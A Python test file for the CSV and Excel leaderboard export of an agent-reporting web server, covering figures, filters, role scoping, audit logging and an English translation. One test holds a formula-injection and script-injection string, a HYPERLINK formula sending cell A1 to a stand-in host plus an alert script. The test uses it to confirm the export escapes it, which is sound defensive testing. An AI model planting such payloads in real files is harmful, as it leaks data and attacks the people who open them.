"""The leaderboard as CSV and as a workbook, with everybody in it, noted in the trail."""

import json
from datetime import datetime
from typing import Any

import pytest

from server import administer
from server.rules.roles import Role
from server.store import audit
from tests.builders import content
from tests.offices import Desk
from tests.server.web.test_sheets import read_csv, read_xlsx
from tests.server.web.visitor import Visitor, user

EVIL = '=HYPERLINK("http://x"&A1) <script>alert(1)</script>'


def lines(visitor: Visitor, form: str, query: str = "") -> list[list[Any]]:
    """Fetch a sheet and return its lines."""
    answer = visitor.get(f"/leaderboard.{form}?{query}")
    assert answer.status_code == 200, answer.text
    kind = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument"}[form]
    assert answer.mimetype.startswith(kind)
    name = answer.headers["Content-Disposition"]
    assert name == f'attachment; filename="papan-peringkat_2026-11-01_2026-11-30.{form}"'
    read: Any = {"csv": read_csv, "xlsx": read_xlsx}[form]
    found: list[list[Any]] = read(answer.data)
    return found


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_it_has_every_figure_under_what_was_asked_for(
    desk: Desk, admin: Visitor, form: str
) -> None:
    laptop = desk.join()
    worker = content(programmes=["JHT", "JKK", "JKM"])
    duplicate, odd = laptop.envelope(worker), laptop.envelope(content(sex="X"))
    laptop.exchange(laptop.envelope(worker), duplicate, odd, heartbeat={"waiting": 12})
    desk.agent()
    found = lines(admin, form)
    assert found[0][:2] == ["Papan peringkat", "November 2026"]
    assert [line[1] for line in found[1:4]] == [
        "2026-11-01",
        "2026-11-30",
        "20 Nov 2026 10.00 WITA",
    ]
    heads, first, silent = found[5:]
    row = dict(zip(heads, first, strict=True))
    assert row.pop("Laporan terakhir (Asia/Makassar)") in (
        "2026-11-20 10:00",
        datetime(2026, 11, 20, 10),
    )
    expected = {
        **{"Peringkat": 1, "Kode agen": "A1", "Agen": "Agen 1", "Kantor": "Makassar"},
        **{"Diterima": 1, "Target": 25, "Persen target": 4, "Menunggu di laptop": 12},
        **{"Ganda": 1, "Diperiksa": 0, "Ditolak": 1, "Iuran (rupiah)": worker["contribution"]},
        **{"Persen JHT": row["Persen JHT"], "Persen ganda": "data kurang"},
    }
    assert row == ({k: str(v) for k, v in expected.items()} if form == "csv" else expected)
    assert int(row["Persen JHT"]) > 50
    assert silent[:3] == ["belum melapor", "A2", "Agen 2"]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_it_has_all_rows_of_the_filters(desk: Desk, admin: Visitor, form: str) -> None:
    for _ in range(51):
        desk.agent()
    tallo = administer.add_office(desk.office, "Tallo")
    administer.add_agent(desk.office, "Lain", "Tallo", "B1")
    assert len(lines(admin, form)) == 6 + 52
    (only,) = lines(admin, form, f"office={tallo}&q=nobody")[6:]
    assert only[2] == "Lain"


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_text_is_a_formula(desk: Desk, admin: Visitor, form: str) -> None:
    administer.add_office(desk.office, "+Tallo")
    administer.add_agent(desk.office, EVIL, "+Tallo", "@1")
    before = "'" if form == "csv" else ""
    (row,) = lines(admin, form)[6:]
    assert row[1:4] == [f"{before}@1", f"{before}{EVIL}", f"{before}+Tallo"]


def test_a_supervisor_takes_the_own_offices_along(desk: Desk, chief: Visitor) -> None:
    desk.agent()
    administer.add_office(desk.office, "Tallo")
    administer.add_agent(desk.office, "Lain", "Tallo", "B1")
    assert [row[2] for row in lines(chief, "csv")[6:]] == ["Agen 1"]
    viewer = user(desk, Role.VIEWER, "Tallo")
    assert [row[2] for row in lines(viewer, "csv")[6:]] == ["Lain"]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_who_took_it_along_is_noted(desk: Desk, chief: Visitor, form: str) -> None:
    desk.agent()
    lines(chief, form, "kecamatan=73.71.07&by=received&from=7371010101010001&q=7371010101010001")
    with desk.office.store.read() as tx:
        line = list(audit.lines(tx))[-1]
    assert (line.by, line.action, line.about) == ("Ibu Rahma", "exported", "leaderboard")
    assert json.loads(line.detail) == {
        "form": form,
        "first": "2026-11-01",
        "last": "2026-11-30",
        "basis": "received",
        "kecamatan": "73.71.07",
        "kelurahan": None,
        "rows": 0,
    }


def test_it_is_in_english_too(desk: Desk, admin: Visitor) -> None:
    desk.agent()
    admin.send("/language", {"lang": "en"})
    found = lines(admin, "csv")
    assert found[0] == ["Leaderboard", "November 2026"]
    assert found[6][0] == "not reported"
